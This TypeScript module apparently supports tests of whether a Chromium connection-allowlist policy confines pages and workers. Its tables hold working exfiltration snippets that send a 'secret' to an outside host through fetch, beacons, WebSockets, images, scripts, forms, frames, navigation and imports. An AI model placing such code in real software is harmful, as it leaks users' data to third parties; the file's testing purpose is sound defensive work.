type WayOut = (stranger: string) => void;

/**
 * Whether a Chromium of this version knows `Connection-Allowlist`. Without it nothing stops a page from
 * navigating away, or from asking a STUN server; the page of privacy says so.
 */
export function knowsAllowlist(version: string): boolean {
	return Number.parseInt(version, 10) >= 152;
}

/** What comes to a stranger all the same: a page that is sent there asks for its icon, too. */
export function visitsByLeaving(version: string): readonly string[] {
	return knowsAllowlist(version) ? [] : ['GET /?secret', 'GET /favicon.ico'];
}

/** Ways out of a page, each as hostile code would try it. */
export const waysOutOfPages: Record<string, WayOut> = {
	fetch: (stranger) => void fetch(stranger, { mode: 'no-cors' }).catch(() => undefined),
	XMLHttpRequest: (stranger) => {
		const request = new XMLHttpRequest();
		request.open('POST', stranger);
		request.send('secret');
	},
	sendBeacon: (stranger) => void navigator.sendBeacon(stranger, 'secret'),
	WebSocket: (stranger) => {
		new WebSocket(stranger.replace('http', 'ws'));
	},
	EventSource: (stranger) => {
		new EventSource(stranger);
	},
	image: (stranger) => {
		new Image().src = `${stranger}/secret.png`;
	},
	script: (stranger) => {
		const script = document.createElement('script');
		script.src = `${stranger}/secret.js`;
		document.head.append(script);
	},
	'style sheet': (stranger) => {
		const link = document.createElement('link');
		link.rel = 'stylesheet';
		link.href = `${stranger}/secret.css`;
		document.head.append(link);
	},
	frame: (stranger) => {
		const frame = document.createElement('iframe');
		frame.src = stranger;
		document.body.append(frame);
	},
	form: (stranger) => {
		const form = document.createElement('form');
		form.action = stranger;
		document.body.append(form);
		form.submit();
	},
	navigation: (stranger) => {
		location.href = `${stranger}/?secret`;
	},
};

/** Ways out of a worker, which has only the policy its own script came with. */
export const waysOutOfWorkers: Record<string, WayOut> = {
	fetch: (stranger) => void fetch(stranger, { mode: 'no-cors' }).catch(() => undefined),
	WebSocket: (stranger) => {
		new WebSocket(stranger.replace('http', 'ws'));
	},
	import: (stranger) => void import(`${stranger}/secret.js`).catch(() => undefined),
};
